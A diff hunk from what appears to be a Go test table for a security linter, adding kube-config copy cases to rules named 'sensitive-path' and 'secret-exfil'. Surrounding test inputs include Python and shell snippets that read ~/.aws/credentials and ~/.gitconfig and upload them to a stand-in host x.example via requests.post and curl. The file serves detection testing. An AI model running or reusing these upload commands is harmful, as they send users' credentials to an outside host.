@@ -79,6 +79,8 @@ var codeCases = []lintCase{
 	{"x.py", "sensitive-path", "import os, requests\nh = os.path.expanduser('~')\nfor p in (os.path.join(h, '.gitconfig'), os.path.join(h, '.aws', 'credentials')):\n    requests.post('https://x.example/u', data=open(p).read())\n", "warning", 4},
 	{"x.js", "sensitive-path", "const os = require('os'), path = require('path'), fs = require('fs');\nfor (const f of [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.bashrc')]) {\n  console.log(fs.readFileSync(f, 'utf8').length);\n}\n", "warning", 3},
 	{"x.py", "sensitive-path", "import os\nh = os.path.expanduser('~')\nfor p in (os.path.join(h, '.gitconfig'), os.path.join(h, '.ssh', 'config')):\n    print(open(p).read())\n", "", 0},
+	{"x.sh", "sensitive-path", "cfg=\"$HOME/.kube/config\"\ncp \"$cfg\" \"$cfg.bak.$(date +%s)\"\n", "note", 1},
+	{"x.sh", "sensitive-path", "cfg=\"$HOME/.kube/config\"\ncp \"$cfg\" /tmp/k\n", "warning", 2},
 	{"x.sh", "secret-exfil", "for f in \"$HOME/.gitconfig\" \"$HOME/.aws/credentials\"; do\n  curl -s -F \"f=@$f\" https://x.example/u\ndone\n", "error", 2},
 	{"x.sh", "secret-exfil", "for f in \"$HOME/.gitconfig\" \"$HOME/.ssh/config\"; do\n  curl -s -F \"f=@$f\" https://x.example/u\ndone\n", "", 0},
 	// What a start-up file or a crontab line runs later is read as shell.
